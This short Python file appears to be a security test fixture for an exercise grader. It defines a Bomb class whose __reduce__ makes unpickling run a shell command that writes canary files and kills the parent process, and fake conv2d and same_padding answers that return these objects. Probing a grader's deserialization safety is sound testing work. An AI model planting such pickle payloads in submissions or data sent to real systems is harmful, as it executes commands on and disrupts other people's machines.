"""Returns objects and object arrays whose unpickling runs a command of the attacker's."""

# %% own
import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/layerwise-was-here ~/layerwise-was-here; kill -9 $PPID",)

    def __array__(self, dtype=None, copy=None):
        return np.array([Bomb.__new__(Bomb)] * 3, dtype=object)


# %% 05.2
def conv2d(image, kernel):
    return np.array([[Bomb(), Bomb()], [Bomb(), Bomb()]], dtype=object)


# %% 05.3
def same_padding(n, kernel, stride):
    return Bomb(), Bomb()
